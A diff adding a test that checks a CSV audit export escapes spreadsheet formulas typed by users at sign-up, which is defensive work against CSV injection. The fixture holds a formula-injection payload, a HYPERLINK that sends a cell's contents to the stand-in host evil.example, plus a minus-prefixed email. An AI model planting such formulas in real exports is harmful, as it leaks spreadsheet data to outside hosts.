@@ -144,6 +144,15 @@ def test_the_csv_export_gives_the_time_in_utc_even_in_british_summer_time(audito
     assert list(csv.reader(io.StringIO(text)))[1][0] == "2026-07-01 09:30:15"
 
 
+def test_the_csv_export_writes_a_formula_typed_at_sign_up_as_text(auditor, logged):
+    """The organisation is whatever the person typed when they signed up."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    SensitiveDownload.objects.update(user_organisation=formula, user_email="-1+1@school.example")
+    text = b"".join(auditor.get(REPORT + "?export=csv").streaming_content).decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(text)))[1]
+    assert row[1:3] == ["'-1+1@school.example", "'" + formula]
+
+
 def test_the_spreadsheet_export_works(auditor, logged):
     response = auditor.get(REPORT + "?export=xlsx")
     assert response.status_code == 200
